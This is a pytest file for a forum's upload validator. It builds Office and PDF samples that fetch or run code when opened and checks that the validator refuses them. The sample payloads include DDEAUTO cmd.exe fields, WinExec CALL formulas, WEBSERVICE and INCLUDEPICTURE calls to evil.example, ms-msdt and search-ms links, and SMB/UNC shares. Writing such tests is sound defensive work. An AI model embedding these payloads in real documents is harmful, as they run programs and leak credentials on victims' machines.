"""Fields, formulas, connections and links that fetch or run something when a file is opened."""

import io

import pytest

from forum.writing.attachments import FileKind, FileNotAccepted, accept_file
from tests.factories.files import EXCEL, POWERPOINT, WORD, links, office, packed, pdf

pytestmark = pytest.mark.embedded

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def word(body: str) -> bytes:
    xml = f'<w:document xmlns:w="{W}"><w:body><w:p>{body}</w:p></w:body></w:document>'
    return office(WORD, {"word/header1.xml": xml.encode()})


def field(*pieces: str, inner: str = "") -> str:
    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return mark("begin") + inner + texts + mark("separate") + mark("end")


def excel(part: str, xml: str) -> bytes:
    return office(EXCEL, {part: xml.encode()})


def sheet(formula: str) -> bytes:
    return excel(
        "xl/worksheets/sheet9.xml",
        f'<worksheet xmlns="{X}"><sheetData><row><c><f>{formula}</f><v>1</v></c></row></sheetData></worksheet>',
    )


def refused(content: bytes) -> str:
    with pytest.raises(FileNotAccepted) as refusal:
        accept_file(io.BytesIO(content), "file")
    return str(refusal.value)


def kind_of(content: bytes) -> FileKind:
    return accept_file(io.BytesIO(content), "file").kind


FETCHING = {
    "a program": word(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"')),
    "a program in pieces": word(field(" DD", "E", " excel.exe x")),
    "a simple field": word('<w:fldSimple w:instr=" dde cmd x "/>'),
    "a picture": word(field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')),
    "a text": word(field(" INCLUDETEXT https://evil.example/a ")),
    "a link": word(field(" LINK Excel.Sheet https://evil.example/a ")),
    "a name that another field gives": word(field(" cmd", inner=field("QUOTE 68 68 69"))),
    "a name without a field": word("<w:r><w:instrText>DDE cmd x</w:instrText></w:r>"),
    "a service": sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
    "a picture in a cell": sheet('_xlfn.IMAGE("https://evil.example/a.png")'),
    "a program by a cell": sheet("cmd|'/c calc'!A0"),
    "a call": sheet('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    "a link to a share": sheet('HYPERLINK("\\\\evil.example\\a","x")'),
    "a web query": excel("xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{X}"/>'),
    "a connection": excel(
        "xl/connections.xml",
        f'<connections xmlns="{X}"><connection id="1"><webPr url="https://evil.example"/></connection></connections>',
    ),
    "a program by a button": office(
        POWERPOINT,
        {"ppt/slides/slide9.xml": b'<a xmlns="x"><hlinkClick action="ppaction://program"/></a>'},
    ),
}
HARMLESS = {
    "a page number": (word(field(" PAGE ", "\\* MERGEFORMAT")), FileKind.DOCX),
    "a table of contents": (word(field(' TOC \\o "1-3" \\h ', inner="")), FileKind.DOCX),
    "a page number in a heading": (word(field(" IF ", inner="") + field(" PAGE ")), FileKind.DOCX),
    "a link to the web": (word(field(' HYPERLINK "https://www.england.nhs.uk/" ')), FileKind.DOCX),
    "a link to a bookmark": (word(field(' HYPERLINK \\l "_Toc1" ')), FileKind.DOCX),
    "a word about it": (word("<w:r><w:t>DDE and INCLUDEPICTURE</w:t></w:r>"), FileKind.DOCX),
    "sums": (sheet("SUM(A1:A9)/IMAGES!A1"), FileKind.XLSX),
    "a link in a cell": (sheet('HYPERLINK("https://www.nhs.uk","x")'), FileKind.XLSX),
}


@pytest.mark.parametrize("name", FETCHING)
def test_what_fetches_or_runs_is_refused(name: str) -> None:
    assert "fetches or runs something" in refused(FETCHING[name])


@pytest.mark.parametrize("name", HARMLESS)
def test_what_does_not_is_taken(name: str) -> None:
    content, kind = HARMLESS[name]
    assert kind_of(content) == kind


DANGEROUS_LINKS = [
    "file:///C:/Windows/System32/calc.exe",
    "file://evil.example/share/a.docx",
    "\\\\evil.example\\share\\a",
    "//evil.example/share",
    "javascript:alert(1)",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x",
    "smb://evil.example/a",
]


@pytest.mark.parametrize("target", DANGEROUS_LINKS)
def test_links_to_programs_and_shares_are_refused(target: str) -> None:
    parts = {"word/_rels/document.xml.rels": links(("hyperlink", target, True))}
    assert "a link that leads to a program" in refused(office(WORD, parts))
    if "\\" not in target:
        assert "a link that leads to a program" in refused(word(field(f'HYPERLINK "{target}"')))
    code = target.replace("\\", "\\\\").encode()
    for action in (
        b"<< /S /URI /URI (" + code + b") >>",
        b"<</S/URI/URI<" + target.encode().hex().encode() + b">>>",
    ):
        assert "a link that leads to a program" in refused(pdf(action))
        assert "a link that leads to a program" in refused(pdf(packed(action)))


@pytest.mark.parametrize(
    "target", ["https://www.england.nhs.uk/a_(b)", "mailto:a@nhs.net", "tel:0123", "other.docx"]
)
def test_plain_links_are_taken(target: str) -> None:
    parts = {"word/_rels/document.xml.rels": links(("hyperlink", target, True))}
    assert kind_of(office(WORD, parts)) == FileKind.DOCX
    link = target.replace("(", "\\(").replace(")", "\\)").encode()
    assert kind_of(pdf(b"<< /S /URI /URI (" + link + b") >>")) == FileKind.PDF


@pytest.mark.parametrize(
    "action", ["GoToR", "GoToE", "Rendition", "Movie", "Sound", "Named", "Hide"]
)
def test_actions_of_a_pdf_beyond_plain_links_are_refused(action: str) -> None:
    assert "Print it to a new PDF" in refused(pdf(f"<< /S /{action} /F (a) >>".encode()))
    assert kind_of(pdf(b"<< /S /GoTo /D [1 0 R /Fit] >>")) == FileKind.PDF
